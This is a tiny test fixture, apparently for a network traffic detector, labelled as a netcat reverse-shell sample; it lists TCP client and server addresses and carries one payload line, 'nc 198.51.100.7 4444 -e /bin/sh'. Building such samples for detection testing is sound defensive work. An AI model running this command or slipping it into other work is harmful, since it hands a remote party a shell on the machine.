# reverse shell, netcat with a program.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:6000

>>>
nc 198.51.100.7 4444 -e /bin/sh\n
